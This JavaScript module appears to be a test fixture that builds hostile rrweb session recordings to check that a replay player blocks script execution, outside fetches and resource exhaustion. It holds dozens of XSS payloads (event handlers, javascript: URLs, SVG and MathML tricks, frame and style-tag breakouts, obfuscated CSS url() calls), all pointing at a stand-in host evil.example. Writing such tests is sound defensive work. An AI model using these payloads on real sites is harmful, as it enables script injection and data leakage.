// Recordings as somebody sends them who wants to do harm: whatever runs, fetches, leads away or is
// too much. Each is a name and the events of a session.

const EVIL = "http://evil.example";
const RUN = `parent.postMessage('pwned','*');top.name='pwned';alert(1);fetch('${EVIL}/run')`;

let ids = 10;
const id = () => (ids += 1);
const text = (textContent, more = {}) => ({ type: 3, textContent, id: id(), ...more });
export const element = (tagName, attributes = {}, childNodes = [], more = {}) => ({ type: 2, tagName, attributes, childNodes, id: id(), ...more });
const svg = (tagName, attributes = {}, childNodes = []) => element(tagName, attributes, childNodes, { isSVG: true });

/** A page around something, as rrweb writes it. */
export function page(at, body, head = []) {
  const html = element("html", {}, [element("head", {}, head), element("body", {}, [element("p", { class: "witness" }, [text("Still here")]), ...body])]);
  const node = { type: 0, id: 1, childNodes: [{ type: 1, name: "html", publicId: "", systemId: "", id: 2 }, html] };
  return [
    { type: 4, timestamp: at, data: { href: "https://shop.example/", width: 800, height: 600 } },
    { type: 2, timestamp: at + 1, data: { node, initialOffset: { left: 0, top: 0 } } },
    { type: 3, timestamp: at + 50, data: { source: 1, positions: [{ x: 5, y: 5, id: 1, timeOffset: 0 }] } },
    { type: 3, timestamp: at + 1_500, data: { source: 1, positions: [{ x: 50, y: 50, id: 1, timeOffset: 0 }] } },
  ];
}

const one = (name, node, head) => ({ name, events: (at) => page(at, node ? [node] : [], head ? [head] : []) });
const css = (name, rule) => ({ name, events: (at) => page(at, [element("div", { class: "x", id: "x" }, [text("x")])], [element("style", { _cssText: rule })]) });
/** A page, and then a change of it. */
const change = (name, data) => ({
  name,
  events: (at) => {
    const target = element("div", { class: "x" }, []);
    const events = page(at, [target]);
    return [...events.slice(0, 3), { type: 3, timestamp: at + 200, data: data(target.id) }, events[3]];
  },
});
const nested = (depth) => {
  let node = element("b", {}, [text("deep")]);
  for (let n = 0; n < depth; n += 1) node = element("div", {}, [node]);
  return node;
};

export const HOSTILE = [
  one("a script", element("script", {}, [text(RUN)])),
  one("a script from elsewhere", element("script", { src: `${EVIL}/a.js` })),
  one("an import map", element("script", { type: "importmap" }, [text(`{"imports":{"a":"${EVIL}/a.js"}}`)])),
  one("speculation rules", element("script", { type: "speculationrules" }, [text(`{"prefetch":[{"source":"list","urls":["${EVIL}/s"]}]}`)])),
  one("a picture that fails", element("img", { src: "x", onerror: RUN })),
  one("a picture from elsewhere", element("img", { src: `${EVIL}/a.png` })),
  one("pictures by size", element("img", { srcset: `${EVIL}/a.png 1x` })),
  one("a picture of the recorder's", element("img", { rr_dataURL: `${EVIL}/a.png`, src: "" })),
  one("a picture button", element("input", { type: "image", src: `${EVIL}/b.png` })),
  one("a picture with choices", element("picture", {}, [element("source", { srcset: `${EVIL}/c.png` }), element("img", {})])),
  one("a drawing that loads", svg("svg", { onload: RUN })),
  one("a script in a drawing", svg("svg", {}, [svg("script", {}, [text(RUN)])])),
  one("an animated link", svg("svg", {}, [svg("a", {}, [svg("animate", { attributeName: "href", values: `javascript:${RUN}` }), svg("text", { y: "20" }, [text("x")])])])),
  one("a set link", svg("svg", {}, [svg("set", { attributeName: "onmouseover", to: RUN })])),
  one("a drawing from elsewhere", svg("svg", {}, [svg("use", { href: `${EVIL}/s.svg#a` }), svg("use", { "xlink:href": `${EVIL}/s.svg#b` })])),
  one("a picture in a drawing", svg("svg", {}, [svg("image", { href: `${EVIL}/d.png`, width: "9", height: "9" })])),
  one("a filter from elsewhere", svg("svg", {}, [svg("rect", { width: "9", height: "9", filter: `url(${EVIL}/f.svg#f)`, fill: `url(${EVIL}/g.svg#g)` })])),
  one("HTML in a drawing", svg("svg", {}, [svg("foreignObject", {}, [element("script", {}, [text(RUN)])])])),
  one("a frame", element("iframe", { src: `${EVIL}/frame` })),
  one("a frame with its page", element("iframe", { srcdoc: `<script>${RUN}</script>` })),
  one("a frame that runs", element("iframe", { src: `javascript:${RUN}` })),
  one("a frame of data", element("iframe", { src: `data:text/html,<script>${RUN}</script>` })),
  one("frames", element("frameset", {}, [element("frame", { src: `${EVIL}/frame` })])),
  one("a fenced frame", element("fencedframe", { src: `${EVIL}/frame` })),
  one("a portal", element("portal", { src: `${EVIL}/portal` })),
  one("an object", element("object", { data: `${EVIL}/o.swf`, type: "text/html" })),
  one("an object of data", element("object", { data: `data:text/html,<script>${RUN}</script>` })),
  one("an embedded thing", element("embed", { src: `${EVIL}/e`, type: "text/html" })),
  one("an applet", element("applet", { code: "a", codebase: EVIL })),
  one("a page that leads away", null, element("meta", { "http-equiv": "refresh", content: `0;url=${EVIL}/meta` })),
  one("a page that leads to a script", null, element("meta", { "http-equiv": "refresh", content: `0;url=javascript:${RUN}` })),
  one("a policy that allows everything", null, element("meta", { "http-equiv": "content-security-policy", content: "default-src *" })),
  one("another base", element("a", { href: "x" }, [text("x")]), element("base", { href: `${EVIL}/`, target: "_top" })),
  one("a style sheet from elsewhere", null, element("link", { rel: "stylesheet", href: `${EVIL}/a.css` })),
  one("something to load before", null, element("link", { rel: "preload", as: "image", href: `${EVIL}/p.png` })),
  one("something to fetch before", null, element("link", { rel: "prefetch", href: `${EVIL}/p` })),
  one("a name to look up before", null, element("link", { rel: "dns-prefetch", href: "//dns.evil.example" })),
  one("a connection to make before", null, element("link", { rel: "preconnect", href: EVIL })),
  one("a module to load before", null, element("link", { rel: "modulepreload", href: `${EVIL}/m.js` })),
  one("an icon", null, element("link", { rel: "icon", href: `${EVIL}/i.ico` })),
  one("a manifest", null, element("link", { rel: "manifest", href: `${EVIL}/m.json` })),
  one("a link that was written down", null, element("link", { rel: "stylesheet", _cssText: `.witness{background:url(${EVIL}/w.png)}` })),
  css("an imported style sheet", `@import url("${EVIL}/i.css"); @import '${EVIL}/j.css';`),
  css("a background", `.witness{background:url('${EVIL}/bg.png')}`),
  css("a background in disguise", `.witness{background:u\\72l(${EVIL}/bg2.png)}`),
  css("a background by size", `.witness{background:image-set("${EVIL}/is.png" 1x)}`),
  css("a cursor", `*{cursor:url(${EVIL}/c.cur),auto}`),
  css("a font", `@font-face{font-family:f;src:url(${EVIL}/f.woff2)}.witness{font-family:f}`),
  css("content", `.witness::before{content:url(${EVIL}/ct.png)}`),
  css("a style sheet that ends its element", `</style><script>${RUN}</script>`),
  one("a style", element("div", { style: `background:url(${EVIL}/st.png)` })),
  one("a form", element("form", { action: `${EVIL}/form`, id: "f" }, [element("input", { name: "a", value: "b", autofocus: "", onfocus: "this.form.submit()" })])),
  one("a button that sends elsewhere", element("button", { formaction: `javascript:${RUN}`, autofocus: "" }, [text("x")])),
  one("a field that takes the focus", element("input", { autofocus: true, onfocus: RUN })),
  one("a link that runs", element("a", { href: `javascript:${RUN}`, ping: `${EVIL}/ping` }, [text("x")])),
  one("a film", element("video", { src: `${EVIL}/v.mp4`, poster: `${EVIL}/v.png`, autoplay: "", onplay: RUN })),
  one("a sound", element("audio", { src: `${EVIL}/a.mp3`, autoplay: "", rr_mediaState: "played" })),
  one("an old background", element("table", { background: `${EVIL}/t.png` })),
  one("something that opens", element("details", { open: "", ontoggle: RUN }, [element("summary", {}, [text("x")])])),
  one("something that moves", element("marquee", { onstart: RUN }, [text("x")])),
  one("a dialog", element("dialog", { open: "", rr_open_mode: "modal", onclose: RUN }, [text("x")])),
  one("something on top", element("div", { popover: "auto", onbeforetoggle: RUN }, [text("x")])),
  one("an element of its own", element("evil-thing", { is: "x", onclick: RUN }, [text("x")], { isCustom: true })),
  one("a template", element("template", { shadowrootmode: "open" }, [element("script", {}, [text(RUN)])])),
  one("a shadow", element("div", {}, [element("img", { src: "x", onerror: RUN }, [], { isShadow: true })], { isShadowHost: true })),
  one("a text that ends its field", element("textarea", { value: `</textarea><script>${RUN}</script>` })),
  one("a prototype", element("div", JSON.parse('{"__proto__": {"onclick": "1", "polluted": true}, "constructor": {"prototype": {"polluted": 1}}}'))),
  one("a name that is none", element("img/src=x/onerror=alert(1)", {})),
  one("formulas", element("math", { href: `javascript:${RUN}` }, [element("maction", { actiontype: "statusline", "xlink:href": `javascript:${RUN}` }, [text("x")])])),
  change("an attribute that runs", (target) => ({ source: 0, adds: [], removes: [], texts: [], attributes: [{ id: target, attributes: { onclick: RUN, onmouseover: RUN } }] })),
  change("an attribute that fetches", (target) => ({ source: 0, adds: [], removes: [], texts: [], attributes: [{ id: target, attributes: { style: { background: `url(${EVIL}/m.png)` }, src: `${EVIL}/m2.png` } }] })),
  change("a script that comes", (target) => ({ source: 0, removes: [], texts: [], attributes: [], adds: [{ parentId: target, nextId: null, node: element("script", { src: `${EVIL}/late.js` }) }, { parentId: target, nextId: null, node: element("img", { src: "x", onerror: RUN }) }] })),
  change("a page that comes into a frame", (target) => ({ source: 0, removes: [], texts: [], attributes: [], isAttachIframe: true, adds: [{ parentId: target, nextId: null, node: { type: 0, id: id(), childNodes: [element("html", {}, [element("body", {}, [element("script", {}, [text(RUN)])])])] } }] })),
  change("a rule that comes", (target) => ({ source: 8, id: target, adds: [{ rule: `.witness{background:url(${EVIL}/r.png)}`, index: 0 }] })),
  change("a sheet that is taken on", () => ({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `.witness{background:url(${EVIL}/ad.png)}` }] }] })),
  change("a property that comes", (target) => ({ source: 13, id: target, index: [0], set: { property: "background", value: `url(${EVIL}/sd.png)` } })),
  change("a font that comes", () => ({ source: 10, family: "f", fontSource: `url(${EVIL}/font.woff2)`, buffer: false })),
  change("a drawing that comes", (target) => ({ source: 9, id: target, type: 0, commands: [{ property: "drawImage", args: [{ rr_type: "HTMLImageElement", src: `${EVIL}/canvas.png` }] }] })),
  change("a film that plays", (target) => ({ source: 7, id: target, type: 0, currentTime: 1 })),
  change("things that are not there", () => ({ source: 0, adds: [{ parentId: 99_999, nextId: 3, node: element("b") }], removes: [{ parentId: 7, id: 99_998 }], texts: [{ id: 99_997, value: "x" }], attributes: [{ id: 99_996, attributes: { a: "b" } }] })),
  change("what is no change", () => ({ source: 0, adds: [null, 7, {}, { node: null }], removes: null, texts: "x", attributes: [{}] })),
  one("a page without an end", nested(1_900)),
  { name: "a hundred thousand elements", events: (at) => page(at, [element("div", {}, Array.from({ length: 100_000 }, () => element("i")))]) },
  { name: "more elements than can be shown", events: (at) => page(at, [element("div", {}, Array.from({ length: 160_000 }, () => element("i")))]) },
  {
    name: "changes without an end",
    events: (at) => {
      const target = element("div", {});
      const events = page(at, [target]);
      const attributes = Array.from({ length: 90_000 }, (_, n) => ({ id: target.id, attributes: { title: String(n) } }));
      return [...events.slice(0, 3), { type: 3, timestamp: at + 100, data: { source: 0, adds: [], removes: [], texts: [], attributes } }, events[3]];
    },
  },
];
